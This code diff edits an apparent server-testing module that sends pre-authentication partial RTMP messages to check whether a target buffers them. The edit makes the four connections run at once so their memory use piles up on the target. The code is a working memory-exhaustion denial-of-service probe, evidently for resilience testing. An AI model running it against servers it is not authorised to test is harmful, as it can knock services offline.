@@ -88,15 +88,11 @@ export const rtmpPreauthBuffering: Attack = {
       const header = Buffer.from([csid, 0, 0, 0, 0x40, 0x00, 0x00, RTMP_MSG_COMMAND_AMF0, 0, 0, 0, 0]);
       partial.push(Buffer.concat([header, randomBytes(chunkSize)]));
     }
-    const results: string[] = [];
-    let kept = 0;
-    const connections = 4;
-    for (let i = 0; i < connections && ctx.msLeft() > 0; i++) {
-      const r = await tcpProbe(at, [...preamble(ctx, at), rtmpC0C1(), randomBytes(1536), setChunkSizeMessage(chunkSize), ...partial], Math.min(PROBE_WAIT_MS, ctx.msLeft()));
-      if (!r.closedByServer) kept++;
-      results.push(r.closedByServer ? 'closed' : 'kept');
-    }
-    return { refused: kept === 0, detail: `${connections} connections × 16 partial 4 MiB messages: ${results.join(', ')}` };
+    // Four connections at once, so their buffers add up in the target's RSS.
+    const results = await Promise.all(Array.from({ length: 4 }, () =>
+      tcpProbe(at, [...preamble(ctx, at), rtmpC0C1(), randomBytes(1536), setChunkSizeMessage(chunkSize), ...partial], Math.min(PROBE_WAIT_MS, ctx.msLeft()))));
+    const kept = results.filter((r) => !r.closedByServer).length;
+    return { refused: kept === 0, detail: `${results.length} connections × 16 partial 4 MiB messages: ${kept} kept open for ${PROBE_WAIT_MS / 1000} s` };
   },
 };
 
